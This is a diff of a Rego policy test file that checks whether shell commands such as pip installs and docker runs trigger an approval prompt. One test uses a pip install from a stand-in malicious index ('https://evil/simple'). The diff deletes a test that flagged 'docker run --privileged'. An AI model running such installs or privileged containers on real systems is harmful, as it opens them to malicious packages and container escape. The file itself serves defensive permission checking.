@@ -32,10 +32,6 @@ test_custom_index_asks if {
 	count(package_sources.ask) == 1 with input as _input([_seg(["pip", "install", "--index-url", "https://evil/simple", "x"], {})])
 }
 
-test_privileged_container_asks if {
-	count(package_sources.ask) == 1 with input as _input([_seg(["docker", "run", "--privileged", "alpine"], {})])
-}
-
 test_project_mount_is_allowed if {
 	count(package_sources.ask) == 0 with input as _input([_seg(["docker", "run", "-v", "/home/dev/project:/app", "node"], {})])
 }
